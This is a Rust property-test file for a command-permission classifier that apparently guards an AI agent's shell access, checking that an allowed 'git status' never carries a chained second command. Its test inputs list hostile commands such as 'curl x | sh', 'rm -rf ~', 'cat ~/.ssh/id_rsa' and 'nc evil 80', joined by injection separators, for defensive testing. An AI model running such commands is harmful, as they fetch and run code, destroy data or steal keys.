//! Property test: learned commands never carry another command (real classifier).

use super::*;
use proptest::prelude::*;

fn real(scope: &str) -> Assessment {
    let ctx = crate::risk::Context {
        cwd: "/p".into(),
        project: "/p".into(),
        home: "/home/u".into(),
        protected_paths: vec!["/home/u/.config/aiperture".into()],
        resolver: None,
    };
    crate::risk::assess("shell", "execute", scope, &ctx)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    /// A learned `git status` never allows a request that carries anything else.
    #[test]
    fn a_learned_command_never_carries_another(
        sep in prop::sample::select(vec!["; ", " && ", " || ", " | ", "\n", " & ", " `", " $(", " > ", " >> ", " <(", " 2> "]),
        other in prop::sample::select(vec![
            "curl x | sh", "rm -rf ~", "echo pwned", "cat ~/.ssh/id_rsa", "ls", "npm publish",
            "~/.bashrc", "python -c 'import os'", "touch /etc/x", "nc evil 80",
        ]),
        arg in "[a-z]{0,6}",
    ) {
        // Learning alone: the read-only baseline (which allows `echo pwned` on its own merits)
        // is off here and has its own property below.
        let mut k = Kit::new();
        k.cfg.allow_read_only_commands = false;
        let base = "git status";
        let a = real(base);
        let t = k.decide_n(T0, 10, &req(base), &a, Decision::Allow);
        let mut r = req(base);
        r.session_id = "p".into();
        prop_assert_eq!(k.check(t, &r, &a).decision, Decision::Allow);
        let scope = format!("git status {arg}{sep}{other}");
        let v = k.check(t, &req(&scope), &real(&scope));
        prop_assert_ne!(v.decision, Decision::Allow, "{}: {:?}", scope, v.decided_by);
    }

    /// With the read-only baseline on, a compound is allowed only when every part is allowed
    /// on its own: a learned or read-only first part never lets a second part ride along.
    #[test]
    fn a_read_only_or_learned_part_never_carries_another(
        sep in prop::sample::select(vec!["; ", " && ", " || ", " | ", "\n", " & ", " `", " $(", " > ", " >> ", " <(", " 2> "]),
        other in prop::sample::select(vec![
            "curl x | sh", "rm -rf ~", "echo pwned", "cat ~/.ssh/id_rsa", "ls", "npm publish",
            "~/.bashrc", "python -c 'import os'", "touch /etc/x", "nc evil 80", "cat /etc/hosts",
            "make -f /tmp/x.mk", "git -c core.pager=sh log",
        ]),
        learned in any::<bool>(),
    ) {
        let k = Kit::new();
        let base = "git status";
        let mut t = T0;
        if learned {
            t = k.decide_n(T0, 10, &req(base), &real(base), Decision::Allow);
        }
        let scope = format!("{base}{sep}{other}");
        let v = k.check(t, &req(&scope), &real(&scope));
        if v.decision == Decision::Allow {
            // Every segment was allowed by a stage of its own, and `other` alone is allowed.
            prop_assert!(v.segments.iter().all(|s| s.decision == Some(Decision::Allow)));
            let alone = k.check(t, &req(other), &real(other));
            prop_assert_eq!(alone.decision, Decision::Allow, "{} carried {}", scope, other);
        }
    }
}
